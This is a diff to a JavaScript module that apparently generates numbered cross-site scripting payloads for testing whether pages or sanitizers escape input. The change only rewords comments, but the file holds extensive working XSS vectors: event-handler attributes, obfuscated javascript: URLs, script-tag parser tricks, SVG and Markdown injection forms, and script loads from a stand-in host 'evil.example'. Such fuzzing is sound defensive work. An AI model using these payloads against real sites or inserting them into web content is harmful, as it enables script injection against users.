@@ -1,5 +1,6 @@
-// Payloads: strings that run a script if a page passes them on as markup, as a URL or as code. Each calls `zq` with its
-// number. Every run contains all vectors that are written out here; random combinations of them fill the rest.
+// Payloads: strings that run a script if a page uses them unescaped as markup, as a URL or as code. Each calls `zq`
+// with its number. Every run contains all vectors listed in this file, and random combinations of them up to the
+// requested count.
 
 /** Random numbers below 1 from a seed (mulberry32). */
 export function random(seed) {
@@ -14,7 +15,7 @@ export function random(seed) {
   return { next, below, pick: list => list[below(list.length)] };
 }
 
-/** Placeholder for the call in a vector. */
+/** Placeholder for the function call in a vector. */
 const RUN = '\u0001';
 
 /** Ways to call the function that records an execution. */
@@ -33,10 +34,10 @@ const CALLS = [
   n => `document.title='pwned-${n}'`,
 ];
 
-/** Matches the number of the payload in a text. */
+/** Matches a payload in a string and captures its number. */
 export const NUMBERED = /(?:zq|z\\+u0071|z'\+'q'\]|alert|pwned-|\[)(?:\(|`|&#(?:40|x28|96);|&lpar;|%28|\\+u0028)*(\d{1,6})(?=\)|`|\]|'|&#|&rpar;|%29|\\+u0029)/;
 
-/** Elements with an attribute that triggers an event, and the event. */
+/** Elements with an attribute that triggers an event, and the event's handler. */
 const HANDLERS = [
   'img src=x:x|onerror', 'img src=/favicon.ico|onerror', 'img srcset=x:x|onerror', 'image src=x:x|onerror', 'svg|onload', 'svg|onbegin', 'body|onload',
   'body|onpageshow', 'body|onhashchange', 'html|onclick', 'details open|ontoggle', 'video src=x:x|onerror', 'video|onloadstart',
@@ -60,7 +61,7 @@ const HANDLERS = [
   'p|oncopy', 'p|oncut', 'p|onpaste', 'p|oncontextmenu', 'p|ontouchstart', 'p|onkeydown', 'p|ongotpointercapture', 'p|onselectstart', 'p|oncontentvisibilityautostatechange',
 ];
 
-/** Ways to write an attribute with a script. `E` is the element, `N` the name of the event. */
+/** Ways to write an event handler attribute. `E` is the element, `N` the attribute's name. */
 const WRITTEN = [
   `<E N=${RUN}>`, `<E N="${RUN}">`, `<E N='${RUN}'>x`, `<E N = ${RUN} >x`, `<E\nN=${RUN}>`, `<E\tN=${RUN}>`, `<E\fN=${RUN}>`, `<E/N=${RUN}>`, `<E//N="${RUN}"//>`,
   `<E a=">" N=${RUN}>`, `<E a='>' N=${RUN}>`, `<E "a N=${RUN}>`, `<E a==" N=${RUN}>`, `<E =a N=${RUN}>`, `<E N=${RUN}`, `<E N="${RUN}`, `<E N=${RUN} x="`, `<E title="a" title=" N=${RUN} ">`,
@@ -81,7 +82,7 @@ const URLS = [
   `//evil.example/${RUN}`, `\\\\evil.example/${RUN}`, `/\\evil.example/${RUN}`, `https:evil.example/${RUN}`, `/%2f/evil.example/${RUN}`, `ｊavascript:${RUN}`, `java\u00adscript:${RUN}`, `javascript：${RUN}`,
 ];
 
-/** Places for URLs in markup. */
+/** Markup in which `%` is replaced with a URL. */
 const PLACES = [
   '<a href="%">x</a>', "<a href='%'>x</a>", '<a href=%>x</a>', '<a target=_blank href="%">x</a>', '<a href="#" href="%">x</a>', '<a ping="%" href="https://ok.example">x</a>', '<a xlink:href="%">x</a>', '<form action="%"><input type=submit></form>', '<form><button formaction="%">x</button></form>',
   '<form id=zf></form><button form=zf formaction="%">x</button>', '<input type=image formaction="%">', '<iframe src="%"></iframe>', '<iframe srcdoc="<a href=%>x</a>"></iframe>', '<object data="%"></object>', '<object><param name=src value="%"></object>', '<embed src="%">', '<frameset><frame src="%"></frameset>', '<applet code="%"></applet>',
@@ -93,7 +94,7 @@ const PLACES = [
   '<a href="https://ok.example" onclick="location=\'%\'">x</a>', 'url(%)', '@import "%"', '%',
 ];
 
-/** Elements that run or load by themselves, that change the parser's state, or that parsers handle differently. */
+/** Elements that run or load without interaction, that change the parser's state, or that parsers treat differently. */
 const STRUCTURES = [
   `<script>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script type=module>${RUN}</script>`, `<script type=text/jscript>${RUN}</script>`, `<script>${RUN}`, `<script>${RUN}<!--`, `<script>/*<!--<script>*/${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\u0000>${RUN}</script>`,
   `<script src="data:text/javascript,${RUN}"></script>`, `<script src=//evil.example/${RUN}></script>`, `<script type=importmap>{"imports":{"/assets/x.js":"data:text/javascript,${RUN}"}}</script>`, `<script type=speculationrules>{"prerender":[{"urls":["/${RUN}"]}]}</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script>&#122;q&#40;0&#41;;${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><script xlink:href=data:,${RUN} />`,
@@ -116,7 +117,7 @@ const STRUCTURES = [
   `<script>throw onerror=eval,'=${RUN}'</script>`, `<svg><animate xlink:href=#zx attributeName=href dur=5s keytimes=0;0;1 values="https://ok.example;javascript:${RUN};0"/><a id=zx><text y=9>x</text></a>`, `<input type=hidden accesskey=X popover id=zp onbeforetoggle=${RUN}><button popovertarget=zp autofocus>x</button>`, `<video><source onerror=${RUN}></video>`, `<img srcset=",,,,,x:x" onerror=${RUN}>`, `<xss style="display:block;width:9px" onscrollend=${RUN}><br></xss>`, `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
 ];
 
-/** Syntax of Markdown and its extensions around a vector. */
+/** Markdown and its extensions. `%` is replaced with a vector. */
 const MARKDOWN = [
   'x %', '**%**', '*%*', '~~%~~', '==%==', '^%^', '`%`', '``%', '# %', '## % {#z}', '## x {#%}', '## x {#z onclick=% .%}', '## x {%}', '% \n===', '> %', '> > %', '- %', '1. %', '- [ ] %', '- [x] %\n  %', '| % |\n| - |\n| % |', '| x |\n| :-: |\n| % | % |', '[%](https://ok.example)', '[x](https://ok.example "%")', "[x](https://ok.example '%')", '[x](https://ok.example (%))', '![%](https://ok.example/a.png)', '![x](https://ok.example/a.png "%")', '![](<%>)', '![x](./zz.png){%}', '![x](./zz.png){width=% height=%}',
   '[zd]: https://ok.example "%"\n\n[zd]', '[zd]: <%> "%"\n\n[zd] ![zd]', '[%]: https://ok.example\n\n[%]', '<https://ok.example/%>', 'https://ok.example/%', 'www.ok.example/%', 'mailto:x@ok.example?%', '<x@ok.example%>', 'x[^%]\n\n[^%]: y', 'x[^zn]\n\n[^zn]: %', ':::tip %\nx\n:::', ':::tip{title="%"}\nx\n:::', ':::tip[%]\nx\n:::', '::: details %\nx\n:::', '::: warning % {open}\n%\n:::', ':::%\nx\n:::', '::: code-group\n\n```js [%]\nx\n```\n\n:::', '> [!NOTE] %\n> %', '> [!%]\n> x', ':tada%:', ':%:', '[[toc]] %', '[[%]]',
@@ -187,7 +188,7 @@ function* core() {
   for (const end of ENDS) yield end + BASIC[1];
 }
 
-/** `count` distinct payloads: `{ n, text, isCore }`. */
+/** Creates `count` distinct payloads: `{ n, text, isCore }`. */
 export function payloads(count, seed) {
   const chance = random(seed);
   const vectors = new Set(core());
